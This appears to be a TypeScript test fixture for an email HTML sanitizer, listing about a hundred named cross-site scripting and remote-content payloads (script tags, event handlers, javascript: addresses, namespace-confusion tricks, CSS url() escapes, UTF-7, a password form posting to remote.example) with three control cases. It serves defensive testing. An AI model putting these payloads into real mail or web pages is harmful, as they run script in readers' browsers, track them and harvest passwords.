// What a mail might try in the browser of the person who reads it, by the way it tries. Scripts would call `alert`; what would be loaded or
// opened lies on hosts under `remote.example`.

export const attacks: Readonly<Record<string, string>> = {
  'script element': '<script>alert(1)</script>',
  'script element in odd letters': '<ScRiPt/x>alert(1)</sCrIpT\t>',
  'script within a script': '<scr<script>ipt>alert(1)</scr</script>ipt>',
  'script of another host': '<script src="https://remote.example/a.js"></script>',
  'script by a module': '<script type="module">import "https://remote.example/m.js"; alert(1)</script>',
  'import map and preloads':
    '<script type="importmap">{"imports":{"a":"https://remote.example/a.js"}}</script><link rel="modulepreload" href="https://remote.example/p.js">',
  'image that fails': '<img src=x onerror=alert(1)>',
  'image that fails, without blanks': '<img/src="x"/onerror="alert(1)">',
  'image with a NUL in its handler': '<img src=x o\0nerror=alert(1)><im\0g src=x onerror=alert(2)>',
  'handler on a body':
    '<body onload=alert(1) onpageshow=alert(2) background="https://remote.example/b.png">words</body>',
  'handler after a form feed': '<div\fonmouseover\f=\falert(1)>over me</div>',
  'handler that an animation starts':
    '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="alert(1)">words</p>',
  'handler that a transition starts':
    '<p style="transition:color 1s" ontransitionend=alert(1) tabindex=1 autofocus onfocus=alert(2)>words</p>',
  'details that open': '<details open ontoggle=alert(1)><summary>words</summary></details>',
  'popover and command': '<button popovertarget=x>press</button><div popover id=x onbeforetoggle=alert(1)>words</div>',
  'content that becomes visible':
    '<p style="content-visibility:auto" oncontentvisibilityautostatechange=alert(1)>words</p>',
  'custom element': '<x-a onclick=alert(1) is=x><slot onslotchange=alert(2)>words</slot></x-a>',
  marquee: '<marquee onstart=alert(1) loop=1 width=0>words</marquee>',

  'javascript address': '<a href="javascript:alert(1)">press</a>',
  'javascript address with entities': '<a href="&#106;&#x61;vascript&colon;alert&lpar;1&rpar;">press</a>',
  'javascript address with tabs and line breaks': '<a href="ja\tva\nscr\ript:alert(1)">press</a>',
  'javascript address after control letters': '<a href="\u0001\u0002 javascript:alert(1)">press</a>',
  'javascript address without quotes': '<a href=javascript&colon;alert(1)>press</a>',
  'javascript address in an image map':
    '<map name=m><area shape=default href="javascript:alert(1)"></map><img usemap="#m" src="https://remote.example/m.png">',
  'vbscript and data addresses':
    '<a href="vbscript:msgbox(1)">1</a><a href="data:text/html,<script>alert(1)</script>">2</a><a href="blob:https://remote.example/x">3</a><a href="file:///etc/passwd">4</a>',
  'javascript address of a base': '<base href="javascript:alert(1)//"><a href="#x">press</a>',
  'base and a relative address':
    '<base href="https://remote.example/" target="_top"><a href="in">press</a><img src="a.png">',
  'address with a slash missing':
    '<a href="https:/remote.example">1</a><a href="https:\\\\remote.example">2</a><img src="/\\remote.example/a.png">',
  'target and ping':
    '<a href="https://remote.example/" target="_top" ping="https://remote.example/ping" download>press</a>',

  'svg that loads': '<svg onload=alert(1)><circle r=9 /></svg>',
  'svg script':
    '<svg><script>alert&#40;1&#41;</script><script xlink:href="https://remote.example/s.js"></script></svg>',
  'svg use of a data address':
    "<svg><use xlink:href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href='https://remote.example/i' onerror='alert(1)'/></svg>#x\"/></svg>",
  'svg animation of an address':
    '<svg><a><animate attributeName=href values="#a;javascript:alert(1)" /><text y=20>press</text></a></svg>',
  'svg foreign object':
    '<svg><foreignObject><iframe srcdoc="<script>parent.alert(1)</script>"></iframe></foreignObject></svg>',
  'svg image and filter':
    '<svg><image href="https://remote.example/i.png"/><feImage href="https://remote.example/f.png"/><style>@import "https://remote.example/s.css"</style></svg>',
  'svg set of a handler': '<svg><set attributeName=onload to=alert(1) begin=0s /></svg>',
  'mathml link':
    '<math><a xlink:href="javascript:alert(1)"><mtext>press</mtext></a><maction actiontype="statusline#https://remote.example">x</maction></math>',
  'mathml with a style that ends in an attribute':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',

  'namespaces confused': '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  'namespaces confused by a form':
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></mglyph></form>',
  'namespaces confused by a heading':
    '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=\'alert(1)\'>"></style></h1>',
  'annotation that is HTML':
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  'noscript that is text for one and markup for the other':
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  'noscript that an end tag cuts': '<p><noscript></p><style></noscript><img src=x onerror=alert(1)></style>',
  textarea: '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  'textarea with a slash': '<textarea></textarea/><img src=x onerror=alert(1)></textarea>',
  title: '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
  template:
    '<template><img src=x onerror=alert(1)><template shadowrootmode=open><script>alert(1)</script></template></template>',
  'shadow root':
    '<div><template shadowrootmode="open"><style>@import "https://remote.example/s.css"</style><img src=x onerror=alert(1)></template></div>',
  'xmp, plaintext and listing':
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp><listing>&lt;img src=x onerror=alert(1)&gt;</listing><plaintext><img src=x onerror=alert(1)>',
  'noembed and noframes':
    '<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed><noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>',
  select: '<select><option><style></option></select><img src=x onerror=alert(1)></style></select>',
  'comment that ends early': '<!--><img src=x onerror=alert(1)>--><!--- --!><img src=x onerror=alert(1)> -->',
  'comment of Outlook':
    '<!--[if gte mso 9]><script>alert(1)</script><![endif]--><![if !mso]><img src=x onerror=alert(1)><![endif]>',
  'declaration and CDATA':
    '<!DOCTYPE x [<!ENTITY a "<script>alert(1)</script>">]><![CDATA[<img src=x onerror=alert(1)>]]><?xml-stylesheet href="https://remote.example/s.xsl"?>',
  'attribute that ends the tag': '<p title="a"b"onclick=alert(1)//><img alt="`<img src=x onerror=alert(1)>`">',
  'back quotes': '<img alt=`x` src=`x`onerror=alert(1)`>',
  'tag that does not end': '<p>words</p><img src="https://remote.example/a.png" onerror="alert(1)" ',
  'quote that does not end': '<p>words</p><img title="<img src=x onerror=alert(1)>',
  'table that throws out what it holds':
    '<table><img src=x onerror=alert(1)><tr><a href=javascript:alert(1)><td>press</table>',
  'tags without end': `${'<div><b><i>'.repeat(3_000)}<img src=x onerror=alert(1)>`,
  'tables in tables': `${'<table><tr><td>'.repeat(2_000)}<script>alert(1)</script>`,

  'style that imports':
    '<style>@import url(https://remote.example/s.css);@font-face{font-family:a;src:url(https://remote.example/f)}p{font-family:a}</style><p>words</p>',
  'style with an address': '<p style="background:url(https://remote.example/a.png)">words</p>',
  'style with a relative address':
    '<p style="background:url(//remote.example/a.png);list-style-image:url(/x);cursor:url(https://remote.example/c.cur),auto">words</p>',
  'style with escapes':
    '<p style="background:\\75\\72\\6c(https://remote.example/a.png);b\\61ckground:u\\rl(https://remote.example/b.png)">words</p>',
  'style with comments':
    '<p style="back/**/ground:ur/**/l(https://remote.example/a.png);background:/*;*/url(https://remote.example/b.png)">words</p>',
  'style with an image set':
    '<p style="background-image:image-set(\'https://remote.example/a.png\' 1x);background:-webkit-image-set(url(https://remote.example/b.png) 1x)">words</p>',
  'style with an open string': '<p style="font-family:\'a;background:url(https://remote.example/a.png);x:\'">words</p>',
  'style with entities and line breaks':
    '<p style="background&colon;url&lpar;&#10;https://remote.example/a.png&rpar;">words</p>',
  'style with expressions and bindings':
    '<p style="width:expression(alert(1));-moz-binding:url(https://remote.example/x.xml#a);behavior:url(https://remote.example/a.htc)">words</p>',
  'style with variables':
    '<p style="--a:url(https://remote.example/a.png);background:var(--a);content:attr(title)">words</p>',
  'style that covers the page':
    '<div style="position:fixed;inset:0;z-index:9999;background:#fff;margin:-9999px;transform:scale(99)">sign in again</div>',
  'style that shapes, masks and filters':
    '<p style="mask:url(https://remote.example/m.svg#a);filter:url(https://remote.example/f.svg#a);shape-outside:url(https://remote.example/s.png);border-image:url(https://remote.example/b.png) 1">words</p>',
  'style sheet by a link':
    '<link rel=stylesheet href="https://remote.example/s.css"><link rel=icon href="https://remote.example/i.ico">',
  'link that prepares':
    '<link rel="dns-prefetch" href="//remote.example"><link rel=preconnect href="https://remote.example"><link rel=preload as=image href="https://remote.example/a.png"><link rel=prefetch href="https://remote.example/b"><link rel=prerender href="https://remote.example/c">',

  'source set': '<img srcset="https://remote.example/a.png 1x, https://remote.example/b.png 2x" src="cid:none">',
  picture:
    '<picture><source srcset="https://remote.example/a.webp" media="all"><img src="https://remote.example/a.png"></picture>',
  'image by all its old names':
    '<image src="https://remote.example/a.png" onerror=alert(1)><img lowsrc="https://remote.example/b.png" dynsrc="https://remote.example/c.avi" longdesc="https://remote.example/d">',
  'images that are not blocked by case':
    '<IMG SRC="HTTPS://remote.example/a.png"><img src=" https://remote.example/b.png"><img src="//remote.example/c.png">',
  'video, audio and tracks':
    '<video poster="https://remote.example/p.png" src="https://remote.example/v.mp4" autoplay onerror=alert(1)><source src="https://remote.example/w.mp4" onerror=alert(2)><track src="https://remote.example/t.vtt" default></video><audio src="https://remote.example/a.mp3" autoplay></audio>',
  'backgrounds of tables':
    '<table background="https://remote.example/t.png"><tr background="https://remote.example/r.png"><td background="https://remote.example/d.png">words</table>',
  frames:
    '<iframe src="https://remote.example/"></iframe><frameset><frame src="javascript:alert(1)"></frameset><iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe><iframe src="javascript:parent.alert(1)"></iframe>',
  'objects, plug-ins and applets':
    '<object data="https://remote.example/o.swf"><param name=movie value="https://remote.example/m.swf"><img src=x onerror=alert(1)></object><embed src="https://remote.example/e.swf"><applet code=a archive="https://remote.example/a.jar"></applet><object data="javascript:alert(1)"></object>',
  'portals and fenced frames':
    '<portal src="https://remote.example/"></portal><fencedframe src="https://remote.example/"></fencedframe>',
  refresh:
    '<meta http-equiv="refresh" content="0;url=https://remote.example/"><meta http-equiv=refresh content="0 javascript:alert(1)">',
  'policy, cookies and client hints':
    '<meta http-equiv="Content-Security-Policy" content="default-src *; report-uri https://remote.example/r"><meta http-equiv="Set-Cookie" content="a=b"><meta http-equiv="Accept-CH" content="DPR">',
  'form that asks for a password':
    '<form action="https://remote.example/" method=post><input name=password type=password autofocus onfocus=alert(1)><input type=image src="https://remote.example/i.png"><button formaction="javascript:alert(1)">sign in</button></form>',
  'form from afar':
    '<form id=f action="javascript:alert(1)"></form><button form=f>press</button><input type=submit form=f formaction="https://remote.example/"><isindex action="javascript:alert(1)">',
  'names that hide what a page needs':
    '<img name=cookie><img id=createElement name=body><a id=location name=location href="https://remote.example/"></a><form id=document><input name=head></form>',

  'content id with a script':
    '<img src="cid:x&quot; onerror=&quot;alert(1)"><img src=\'cid:" onerror="alert(1)\'><img src="cid:a><script>alert(1)</script>">',
  'content id that is a path':
    '<img src="cid:../../../admin/encryption"><img src="cid://remote.example/a.png"><img src="CID:https://remote.example/a.png">',
  'content id as a link or frame':
    '<a href="cid:page@mail">press</a><iframe src="cid:page@mail"></iframe><object data="cid:page@mail"></object>',
  'attributes that are ours':
    '<img data-remote-src="javascript:alert(1)" data-cid="picture@mail"><img data-remote-src="https://remote.example/a.png"><a data-href="javascript:alert(1)">press</a><img data-image="data:image/svg+xml,<svg onload=alert(1)>">',
  'data addresses of images':
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4="><img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="><img src="data:image/png;base64,AAAA&quot; onerror=&quot;alert(1)">',
  'UTF-7':
    '<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-<head><meta http-equiv="Content-Type" content="text/html; charset=x-imap4-modified-utf7">&ADw-script&AD4-alert(1)',
  'charsets that eat a quote':
    '<meta charset="shift_jis"><p title="\u0081"><img alt="\u0081" title=" onerror=alert(1) src=x ">\u001b$B<img src=x onerror=alert(1)>\u001b(B',
  'overlong and wide signs':
    '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e\u00bcscript\u00bealert(1)\u00bc/script\u00be&lt;script&gt;alert(1)&lt;/script&gt;',
  'words in the other direction':
    '<bdo dir=rtl>\u202ehttps://elpmaxe.etomer\u202c</bdo><a href="https://remote.example/\u202efdp.exe">press</a>',
}

/** Each does one of the three things that must not happen; a harness that sees nothing here sees nothing at all. */
export const controls = {
  script: '<img src="/none" onerror="alert(1)">',
  request: '<img src="https://remote.example/seen.png">',
  navigation: '<meta http-equiv="refresh" content="0;url=/away">',
} as const
